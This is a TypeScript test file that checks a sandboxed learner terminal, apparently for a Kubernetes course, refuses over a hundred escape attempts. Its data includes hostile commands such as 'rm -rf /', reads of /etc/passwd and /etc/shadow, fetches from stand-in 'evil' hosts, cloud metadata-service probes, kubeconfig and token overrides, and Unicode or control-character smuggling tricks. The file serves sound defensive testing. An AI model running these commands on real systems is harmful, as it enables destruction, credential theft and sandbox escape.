// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell lines with ${…} are the data under test
/**
 * Attempts to get out of the learner's terminal, typed as a learner would type them. For each:
 * the shell answers with a message that says what was refused, kubectl is never started, no HTTP
 * request leaves, the working folder does not move, and the next command (`pwd`) still works.
 */

import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createShellHarness, type ShellHarness } from './harness.ts';

/** A label, the bytes typed (Enter is added unless the bytes already end the line), what the answer says. */
type Attempt = [label: string, input: string, answer: RegExp];

const PASTE = (text: string): string => `\x1b[200~${text}\x1b[201~`;

const ATTEMPTS: Attempt[] = [
  // Shell metacharacters and substitutions
  ['command substitution', 'kubectl get po $(id)', /command substitution \$\(…\) is not available/],
  ['command substitution in quotes', 'kubectl get po "$(cat /etc/passwd)"', /command substitution/],
  ['backticks', 'kubectl get po `id`', /backticks/],
  ['arithmetic', 'echo $((1+1))', /arithmetic expansion/],
  [
    'a second command after ;',
    'echo hi; rm -rf /',
    /rm: command not found \(files can only be changed in the editor panel/,
  ],
  ['a leading ;', '; rm -rf /', /syntax error near ;/],
  ['a pipe into sh', 'kubectl get po | sh', /sh: command not found.*after \| use grep/],
  ['a pipe into bash -c', 'echo id | bash -c cat', /bash: command not found/],
  ['a pipe into kubectl', 'echo x | kubectl apply -f -', /kubectl: cannot read from a pipe here/],
  ['output redirection', 'kubectl get po > /etc/passwd', /redirection > is not available/],
  ['append redirection', 'kubectl get po >> ~/.bashrc', /redirection >> is not available/],
  ['input redirection', 'kubectl apply -f - < /etc/shadow', /redirection < is not available/],
  ['stderr redirection', 'kubectl get po 2>&1', /redirection 2>&1 is not available/],
  ['here-document', 'cat <<EOF', /redirection << is not available/],
  ['background job', 'kubectl proxy &', /background with & is not available/],
  ['or-list', 'kubectl get po || sh', /\|\| \(run the next command if this one fails\) is not available/],
  ['subshell', '(kubectl get po)', /parentheses/],
  ['group', '{ kubectl get po; }', /command groups/],
  ['history expansion', 'kubectl get po !!', /history expansion !! is not available/],
  ['tilde', 'cat ~/.kube/config', /~ \(your home folder\) is not available/],
  ['a variable', 'kubectl get po $HOME', /variables such as \$HOME are not available/],
  ['a braced variable', 'echo ${KUBECONFIG}', /variables such as \$\{KUBECONFIG\} are not available/],
  ['a special parameter', 'echo $$', /special parameter \$\$ is not available/],
  ['brace list', 'cat /etc/{passwd,shadow}', /brace expansion/],
  ['an if', 'if true; then kubectl proxy; fi', /conditionals/],
  ['a while loop', 'while true; do kubectl get po; done', /while loops are not available/],
  [
    'a loop variable used outside',
    'for i in 1; do echo; done; echo $i',
    /variables such as \$i are not available/,
  ],
  [
    'a loop over refused kubectl',
    'for i in {1..3}; do kubectl --token=x get po; done',
    /--token is not available here/,
  ],
  // Environment tricks
  [
    'KUBECONFIG assignment',
    'KUBECONFIG=/x kubectl get po',
    /setting a variable \(KUBECONFIG=…\) is not available/,
  ],
  ['env', 'env', /env: command not found \(this terminal keeps no environment variables/],
  ['env running kubectl', 'env KUBECONFIG=/x kubectl get po', /env: command not found/],
  ['export', 'export KUBECONFIG=/etc/kubernetes/admin.conf', /export: command not found/],
  ['alias', 'alias kubectl=sh', /alias: command not found/],
  ['bash', 'bash', /bash: command not found \(there is no system shell/],
  ['sh -c', "sh -c 'kubectl get po --kubeconfig=/x'", /sh: command not found/],
  ['exec', 'exec kubectl get po', /exec: command not found/],
  ['eval', 'eval kubectl get po', /eval: command not found/],
  ['source', 'source /etc/profile', /source: command not found/],
  ['sudo', 'sudo kubectl get po', /sudo: command not found/],
  [
    'kubectl by absolute path',
    '/usr/bin/kubectl get po',
    /\/usr\/bin\/kubectl: programs cannot be run by path here; type kubectl by its name/,
  ],
  ['kubectl by relative path', './kubectl get po', /\.\/kubectl: programs cannot be run by path here/],
  ['a versioned kubectl', 'kubectl.1.32 get po', /kubectl\.1\.32: command not found/],
  ['python3', 'python3 -c \'import os; os.system("id")\'', /python3: command not found/],
  ['an editor', 'vi vweb/vweb-v1.yaml', /vi: command not found \(use the editor panel/],
  ['wget', 'wget http://evil/x', /wget: command not found \(to reach a Service use curl/],
  // kubectl: target and identity
  [
    '--kubeconfig=',
    'kubectl --kubeconfig=/etc/kubernetes/admin.conf get po',
    /--kubeconfig is not available here/,
  ],
  [
    '--kubeconfig after the command',
    'kubectl get po --kubeconfig /etc/kubernetes/admin.conf',
    /--kubeconfig is not available here/,
  ],
  [
    '-s URL',
    'kubectl -s https://evil get po',
    /-s is not available here: it points kubectl at another API server/,
  ],
  ['-sURL', 'kubectl get po -shttps://x', /-s is not available here/],
  ['-s=URL', 'kubectl get po -s=https://x', /-s is not available here/],
  ['-s in a bundle', 'kubectl get po -As https://x', /-s is not available here/],
  ['--server=', 'kubectl get po --server=x', /--server is not available here/],
  ['--token', 'kubectl get po --token x', /--token is not available here/],
  ['--as', 'kubectl get po --as=system:admin', /--as is not available here: it makes kubectl impersonate/],
  ['--as-group', 'kubectl get po --as-group=system:masters', /--as-group is not available/],
  ['--context', 'kubectl get po --context=kind-kind', /--context is not available/],
  ['--user', 'kubectl get po --user=admin', /--user is not available/],
  [
    '--insecure-skip-tls-verify',
    'kubectl get po --insecure-skip-tls-verify',
    /--insecure-skip-tls-verify is not available/,
  ],
  [
    'underscore spelling',
    'kubectl get po --insecure_skip_tls_verify',
    /--insecure-skip-tls-verify is not available/,
  ],
  [
    '--certificate-authority',
    'kubectl get po --certificate-authority=/x',
    /--certificate-authority is not available/,
  ],
  ['--cache-dir', 'kubectl get po --cache-dir=/tmp/x', /--cache-dir is not available/],
  ['a flag after --', 'kubectl get po -- --kubeconfig=/x', /--kubeconfig is not available/],
  ['an escaped dash', 'kubectl \\--kubeconfig=/x get po', /--kubeconfig is not available/],
  ['quotes splitting a flag', 'kubectl --kube"config"=/x get po', /--kubeconfig is not available/],
  ['single quotes splitting a flag', "kubectl get po --'tok'en=x", /--token is not available/],
  ['an em dash', 'kubectl \u2014kubeconfig=/x get po', /typographic dash/],
  ['an en dash pair', 'kubectl get po \u2013\u2013kubeconfig=/x', /typographic dash/],
  ['a dash and an en dash', 'kubectl get po -\u2013kubeconfig=/x', /typographic dash/],
  ['a quoted em dash', 'kubectl get po "\u2014kubeconfig=/x"', /typographic dash/],
  ['a zero-width space', 'kubectl get po \u200b--kubeconfig=/x', /invisible character \(U\+200B\)/],
  ['a right-to-left override', 'kubectl get po \u202e--kubeconfig', /invisible character \(U\+202E\)/],
  ['a non-breaking space', 'kubectl get\u00a0po --kubeconfig=/x', /space-like character \(U\+00A0\)/],
  [
    'a flag before the command',
    'kubectl --foo get proxy',
    /the option --foo must come after the command name/,
  ],
  // kubectl: commands that reach the host
  ['proxy', 'kubectl proxy', /kubectl proxy opens a port on the server/],
  ['port-forward', 'kubectl port-forward svc/vweb 8090:8090', /port-forward opens a port/],
  ['cp', 'kubectl cp vweb-abc:/etc/passwd ./x', /kubectl cp copies files/],
  [
    'config use-context',
    'kubectl config use-context kind-kind',
    /^kubectl config can only show the settings/m,
  ],
  ['config set-credentials', 'kubectl config set-credentials x', /kubectl config can only show/],
  ['plugin list', 'kubectl plugin list', /plugins are programs installed on the server/],
  ['an unknown command (plugin lookup)', 'kubectl evil', /"evil" is not a kubectl command available here/],
  ['a create plugin lookup', 'kubectl create evil', /"evil" is not something kubectl create makes here/],
  ['debug node', 'kubectl debug node/x --image=busybox', /kubectl debug starts debugging containers/],
  ['attach', 'kubectl attach vweb-abc', /kubectl attach needs an interactive stream/],
  ['exec -it', 'kubectl exec -it deploy/vweb -- sh', /-i needs an interactive stream/],
  ['run -it', 'kubectl run x --image=busybox -ti', /-t needs an interactive stream/],
  [
    'run --privileged',
    'kubectl run x --image=busybox --privileged',
    /privileged containers are not available/,
  ],
  [
    'kustomize with helm',
    'kubectl kustomize vweb --enable-helm --helm-command=/bin/sh',
    /kubectl kustomize options such as --enable-helm are not available/,
  ],
  ['cluster-info dump', 'kubectl cluster-info dump --output-directory=/tmp/x', /cluster-info dump/],
  ['create --edit', 'kubectl create -f vweb/vweb-v1.yaml --edit', /--edit would open a text editor/],
  ['edit', 'kubectl edit deploy/vweb', /kubectl edit would open a text editor on the server/],
  // kubectl: files
  ['-f /etc/passwd', 'kubectl apply -f /etc/passwd', /-f \/etc\/passwd: outside the exercise folder/],
  ['-f ../../x', 'kubectl apply -f ../../x', /-f \.\.\/\.\.\/x: outside the exercise folder/],
  ['-f vweb/../../..', 'kubectl apply -f vweb/../../..', /outside the exercise folder/],
  ['-f next to the workdir', 'kubectl apply -f ../outside/secret.yaml', /outside the exercise folder/],
  [
    '-f a link to /etc/passwd',
    'kubectl apply -f links/passwd.yaml',
    /links\/passwd\.yaml: outside the exercise folder/,
  ],
  ['-f through a link to /etc', 'kubectl apply -f links/etc/passwd', /outside the exercise folder/],
  [
    '-f a folder holding a link out',
    'kubectl apply -f links/',
    /links\/etc is a link that leads outside the exercise folder/,
  ],
  ['-f a URL', 'kubectl apply -f http://evil/x.yaml', /files from the internet are not available/],
  [
    '-f a list with a path outside',
    'kubectl apply -f vweb/vweb-v1.yaml,/etc/passwd',
    /\/etc\/passwd: outside/,
  ],
  ['-f twice', 'kubectl apply -f vweb/ -f /etc/passwd', /outside the exercise folder/],
  [
    '-k a remote base',
    'kubectl apply -k github.com/kubernetes-sigs/kustomize//examples/helloWorld',
    /files from the internet/,
  ],
  ['--from-file', 'kubectl create configmap x --from-file=/etc/passwd', /--from-file \/etc\/passwd: outside/],
  [
    '--from-env-file',
    'kubectl create secret generic x --from-env-file=/proc/self/environ',
    /outside the exercise folder/,
  ],
  ['-o jsonpath-file', 'kubectl get po -o jsonpath-file=/etc/shadow', /outside the exercise folder/],
  [
    '--template file',
    'kubectl get po -o go-template-file --template=/etc/shadow',
    /outside the exercise folder/,
  ],
  ['-f -', 'kubectl apply -f -', /would read the manifest from the keyboard/],
  // Built-ins and files
  ['cat /etc/passwd', 'cat /etc/passwd', /cat: \/etc\/passwd: outside the exercise folder/],
  ['cat a link out', 'cat links/passwd.yaml', /cat: links\/passwd\.yaml: outside the exercise folder/],
  ['grep a file outside', 'grep root /etc/passwd', /grep: \/etc\/passwd: outside/],
  ['head a file outside', 'head -n 5 /etc/shadow', /head: \/etc\/shadow: outside/],
  ['sort through a link', 'sort links/etc/passwd', /sort: links\/etc\/passwd: outside/],
  ['cd /', 'cd /', /cd: \/: outside the exercise folder/],
  ['cd ..', 'cd ..', /cd: \.\.: already at the top of the exercise folder/],
  ['cd into a link out', 'cd links/etc', /cd: links\/etc: outside the exercise folder/],
  ['ls /etc', 'ls /etc', /ls: cannot access '\/etc': outside the exercise folder/],
  ['ls through a link', 'ls links/etc/', /ls: cannot access 'links\/etc\/': outside/],
  ['watch a refused command', 'watch -n 1 kubectl --kubeconfig=/x get po', /--kubeconfig is not available/],
  ['watch a shell', 'watch bash', /bash: command not found/],
  ['watch with a redirection', "watch 'kubectl get po > /tmp/x'", /redirection > is not available/],
  // curl reaches the session's Services only
  [
    'curl the metadata service',
    'curl http://169.254.169.254/latest/meta-data',
    /curl: \(6\) Could not resolve host: 169\.254\.169\.254/,
  ],
  [
    'curl another namespace',
    'curl http://kubernetes.default.svc/api',
    /Could not resolve host: kubernetes\.default\.svc \(only the Services of your namespace/,
  ],
  ['curl a file URL', 'curl file:///etc/passwd', /Protocol "file" not supported/],
  ['curl an outside host', 'curl https://example.com/', /Protocol "https" not supported/],
  ['curl writing a file', 'curl -o /tmp/x http://vweb:8090/', /writing to files is not available/],
  ['curl with credentials', 'curl http://admin:x@vweb:8090/', /user names and passwords are not available/],
  ['curl POST', 'curl -X POST http://vweb:8090/', /only GET requests are available/],
  ['curl uploading', 'curl -T /etc/passwd http://vweb:8090/', /option -T: is not available/],
];

/** Raw byte sequences: control characters, binary and oversized input, pastes. */
const RAW_ATTEMPTS: Attempt[] = [
  ['a NUL byte', 'kubectl get po\x00\r', /control character \(U\+0000\)/],
  ['a NUL in the middle', 'kubectl get\x00 po --kubeconfig=/x\r', /control character \(U\+0000\)/],
  ['Ctrl-R', 'kubectl get po\x12\r', /control character \(U\+0012\)/],
  ['Ctrl-V then ESC in a paste', `${PASTE('kubectl get po\x16\x1b[2J')}\r`, /control character \(U\+0016\)/],
  [
    'an escape sequence inside a paste',
    `${PASTE('kubectl get po \x1b]0;owned\x07')}\r`,
    /control character \(U\+001B\)/,
  ],
  [
    'Ctrl-C inside a paste is text',
    `${PASTE('kubectl get po\x03 --kubeconfig=/x')}\r`,
    /control character \(U\+0003\)/,
  ],
  ['a C1 control', 'kubectl get po\u0085\r', /control character \(U\+0085\)/],
  ['invalid UTF-8 (replacement characters)', 'kubectl get po \ufffd\ufffd\r', /not valid UTF-8 text/],
  ['an unpaired surrogate', 'kubectl get po \ud800\r', /not valid UTF-8 text/],
  [
    'binary garbage',
    `${Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]).toString('latin1')}\r`,
    /control character/,
  ],
  ['a 100 KB line', `kubectl get po ${'a'.repeat(100 * 1024)}\r`, /the line is longer than 4096 bytes/],
  [
    'a 100 KB paste',
    `${PASTE(`kubectl get po --kubeconfig=/x ${'b'.repeat(100 * 1024)}`)}\r`,
    /the line is longer than 4096 bytes/,
  ],
];

describe('the escape corpus', () => {
  let h: ShellHarness;
  beforeAll(async () => {
    h = await createShellHarness();
  });
  afterAll(async () => {
    await h.workdir.remove();
  });

  it('has well over fifty attempts', () => {
    expect(ATTEMPTS.length + RAW_ATTEMPTS.length).toBeGreaterThanOrEqual(100);
  });

  const check = async (input: string, answer: RegExp): Promise<void> => {
    const before = h.text().length;
    h.shell.input(input);
    await h.shell.whenIdle();
    const said = h.text().slice(before);
    expect(said).toMatch(answer);
    expect(h.kubectl.calls).toEqual([]);
    expect(h.http.targets).toEqual([]);
    expect(h.shell.cwd).toBe(h.workdir.root);
    expect(h.shell.lastStatus).not.toBe(0);
    // Nothing the learner typed is echoed raw: control characters appear in caret form only.
    // (The shell's own bell, \x07, and its escape sequences are fine.)
    expect([...said].filter((ch) => ch.charCodeAt(0) < 0x20 && !'\n\r\x1b\x07'.includes(ch))).toEqual([]);
    const after = await h.run('pwd');
    expect(after).toContain(`${h.workdir.root}\n`);
    expect(h.shell.lastStatus).toBe(0);
  };

  it.each(ATTEMPTS)('%s: %s', async (_label, line, answer) => {
    await check(`${line}\r`, answer);
  });

  it.each(RAW_ATTEMPTS)('%s', async (_label, input, answer) => {
    await check(input, answer);
  });
});
